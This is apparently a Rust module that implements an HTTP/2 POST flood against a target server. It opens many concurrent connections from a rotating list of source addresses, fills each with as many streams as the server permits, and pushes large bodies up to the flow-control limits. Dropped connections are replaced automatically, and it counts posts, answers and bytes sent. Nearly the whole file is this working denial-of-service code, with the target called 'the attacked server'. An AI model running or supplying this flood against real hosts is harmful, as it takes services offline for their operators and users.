//! Strangers on HTTP/2 who post without end: many connections, many streams on each, and bodies
//! that never end.
//!
//! The flood implements just enough of the protocol to send all that the other side's windows
//! allow. The caller observes the effect on the host.

use std::collections::HashMap;
use std::io::{Error, Result};
use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::tcp::OwnedReadHalf;
use tokio::net::{TcpSocket, TcpStream};
use tokio::sync::mpsc::{UnboundedReceiver, UnboundedSender, unbounded_channel};
use tokio::task::JoinSet;
use tokio::time::{sleep, timeout_at};

/// A flood of posts.
#[derive(Clone, Debug)]
pub struct Flood {
    /// The address of the attacked server.
    pub to: SocketAddr,
    /// The addresses that the flood's connections come from, in turn.
    pub from: Vec<IpAddr>,
    /// The number of concurrent connections.
    pub connections: usize,
    /// The number of concurrent posts on each connection, within the other side's limit.
    pub streams: usize,
    /// The heads of the posts, in turn.
    pub heads: Vec<Head>,
    /// The length of each body.
    pub body_bytes: usize,
}

/// The head of a post: names in lower case with values, including the pseudo-headers.
pub type Head = Vec<(&'static str, String)>;

/// The figures of a flood.
#[derive(Debug, Default)]
pub struct Flooded {
    /// The number of connections.
    pub connections: AtomicU64,
    /// The number of posts that were begun.
    pub posts: AtomicU64,
    /// The number of posts that were answered.
    pub answers: AtomicU64,
    /// The number of body bytes that were sent.
    pub bytes: AtomicU64,
}

impl Flood {
    /// Floods for `duration`. A connection that ends is replaced.
    pub async fn run(self, duration: Duration) -> Arc<Flooded> {
        let end = tokio::time::Instant::now() + duration;
        let (flood, flooded) = (Arc::new(self), Arc::new(Flooded::default()));
        let mut tasks = JoinSet::new();
        for number in 0..flood.connections {
            let (flood, flooded) = (Arc::clone(&flood), Arc::clone(&flooded));
            tasks.spawn(async move {
                let flooding = async {
                    loop {
                        // However a connection ends, the next one follows.
                        let _ = flood.connection(number, &flooded).await;
                        sleep(Duration::from_millis(50)).await;
                    }
                };
                let _: std::result::Result<(), _> = timeout_at(end, flooding).await;
            });
        }
        while tasks.join_next().await.is_some() {}
        flooded
    }

    async fn connection(&self, number: usize, flooded: &Flooded) -> Result<()> {
        let socket = TcpSocket::new_v4()?;
        socket.bind(SocketAddr::new(self.from[number % self.from.len()], 0))?;
        let stream: TcpStream = socket.connect(self.to).await?;
        flooded.connections.fetch_add(1, Ordering::Relaxed);
        let (reader, mut writer) = stream.into_split();
        let (events, mut received) = unbounded_channel();
        let reading = tokio::spawn(read(reader, events));
        let mut posts = Posts::new(self, number);
        writer.write_all(PREFACE).await?;
        let written = async {
            loop {
                let frames = posts.next_frames(flooded);
                if frames.is_empty() {
                    let event = received.recv().await.ok_or(Error::other("it ended"))?;
                    posts.take(event, flooded);
                } else {
                    writer.write_all(&frames).await?;
                }
                posts.take_all(&mut received, flooded);
            }
        };
        let ended: Result<()> = written.await;
        reading.abort();
        ended
    }
}

/// The posts of one connection.
struct Posts<'a> {
    flood: &'a Flood,
    number: usize,
    next_stream: u32,
    open: HashMap<u32, Post>,
    credit: i64,
    first_credit: i64,
    max_open: usize,
    acknowledgements: Vec<u8>,
}

struct Post {
    credit: i64,
    left: usize,
}

/// A frame from the other side.
enum Event {
    Settings {
        window: Option<u32>,
        max_streams: Option<u32>,
    },
    Window {
        stream: u32,
        more: u32,
    },
    Answered,
    Reset(u32),
    Ping(Vec<u8>),
}

impl<'a> Posts<'a> {
    fn new(flood: &'a Flood, number: usize) -> Self {
        Self {
            flood,
            number,
            next_stream: 1,
            open: HashMap::new(),
            credit: 65_535,
            first_credit: 65_535,
            max_open: flood.streams,
            acknowledgements: Vec::new(),
        }
    }

    /// The frames that can be sent now. Empty when only the other side can change that.
    fn next_frames(&mut self, flooded: &Flooded) -> Vec<u8> {
        let mut frames = std::mem::take(&mut self.acknowledgements);
        while self.open.len() < self.max_open && self.next_stream < 1 << 30 {
            let post = (self.next_stream / 2) as usize + self.number;
            let head = &self.flood.heads[post % self.flood.heads.len()];
            frames.extend(frame(
                HEADERS,
                END_HEADERS,
                self.next_stream,
                &encoded(head),
            ));
            let post = Post {
                credit: self.first_credit,
                left: self.flood.body_bytes,
            };
            self.open.insert(self.next_stream, post);
            self.next_stream += 2;
            flooded.posts.fetch_add(1, Ordering::Relaxed);
        }
        let mut ended = Vec::new();
        for (stream, post) in &mut self.open {
            let most = self.credit.min(post.credit).clamp(0, 16_384);
            let bytes = usize::try_from(most).unwrap_or(0).min(post.left);
            if bytes == 0 {
                continue;
            }
            post.left -= bytes;
            post.credit -= bytes as i64;
            self.credit -= bytes as i64;
            let is_last = post.left == 0;
            frames.extend(frame(DATA, u8::from(is_last), *stream, &vec![b'x'; bytes]));
            flooded.bytes.fetch_add(bytes as u64, Ordering::Relaxed);
            if is_last {
                ended.push(*stream);
            }
            if frames.len() > 64 << 10 {
                break;
            }
        }
        for stream in ended {
            self.open.remove(&stream);
        }
        frames
    }

    fn take_all(&mut self, received: &mut UnboundedReceiver<Event>, flooded: &Flooded) {
        while let Ok(event) = received.try_recv() {
            self.take(event, flooded);
        }
    }

    fn take(&mut self, event: Event, flooded: &Flooded) {
        match event {
            Event::Settings {
                window,
                max_streams,
            } => {
                if let Some(max_streams) = max_streams {
                    self.max_open = self.flood.streams.min(max_streams as usize);
                }
                if let Some(window) = window.map(i64::from) {
                    let more = window - self.first_credit;
                    self.first_credit = window;
                    self.open.values_mut().for_each(|post| post.credit += more);
                }
                self.acknowledgements.extend(frame(SETTINGS, 1, 0, &[]));
            }
            Event::Window { stream: 0, more } => self.credit += i64::from(more),
            Event::Window { stream, more } => {
                if let Some(post) = self.open.get_mut(&stream) {
                    post.credit += i64::from(more);
                }
            }
            // The stream goes on posting after an answer.
            Event::Answered => {
                flooded.answers.fetch_add(1, Ordering::Relaxed);
            }
            Event::Reset(stream) => {
                self.open.remove(&stream);
            }
            Event::Ping(data) => self.acknowledgements.extend(frame(PING, 1, 0, &data)),
        }
    }
}

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
const DATA: u8 = 0x0;
const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const PING: u8 = 0x6;
const GOAWAY: u8 = 0x7;
const WINDOW_UPDATE: u8 = 0x8;
const END_HEADERS: u8 = 0x4;

async fn read(mut reader: OwnedReadHalf, events: UnboundedSender<Event>) -> Result<()> {
    let mut head = [0; 9];
    loop {
        reader.read_exact(&mut head).await?;
        let length = u32::from_be_bytes([0, head[0], head[1], head[2]]);
        let mut payload = vec![0; length as usize];
        reader.read_exact(&mut payload).await?;
        let (kind, flags) = (head[3], head[4]);
        let stream = number(&head[5..]);
        let event = match kind {
            SETTINGS if flags & 1 == 0 => {
                let setting = |id| {
                    let settings = payload.chunks_exact(6).filter(|it| it[..2] == [0, id]);
                    settings.map(|it| number(&it[2..])).next_back()
                };
                Event::Settings {
                    window: setting(4),
                    max_streams: setting(3),
                }
            }
            WINDOW_UPDATE => Event::Window {
                stream,
                more: number(&payload),
            },
            HEADERS => Event::Answered,
            RST_STREAM => Event::Reset(stream),
            PING if flags & 1 == 0 => Event::Ping(payload),
            GOAWAY => return Ok(()),
            _ => continue,
        };
        if events.send(event).is_err() {
            return Ok(());
        }
    }
}

fn number(bytes: &[u8]) -> u32 {
    u32::from_be_bytes([bytes[0], bytes[1], bytes[2], bytes[3]])
}

/// The head as literal fields that need no table of headers.
fn encoded(head: &Head) -> Vec<u8> {
    let mut block = Vec::new();
    for (name, value) in head {
        block.push(0);
        for text in [name.as_bytes(), value.as_bytes()] {
            let length = u8::try_from(text.len()).ok().filter(|length| *length < 127);
            block.push(length.expect("the texts of a flood are short"));
            block.extend(text);
        }
    }
    block
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("short").to_be_bytes();
    let head = [&length[1..], &[kind, flags], &stream.to_be_bytes()].concat();
    [head, payload.to_vec()].concat()
}
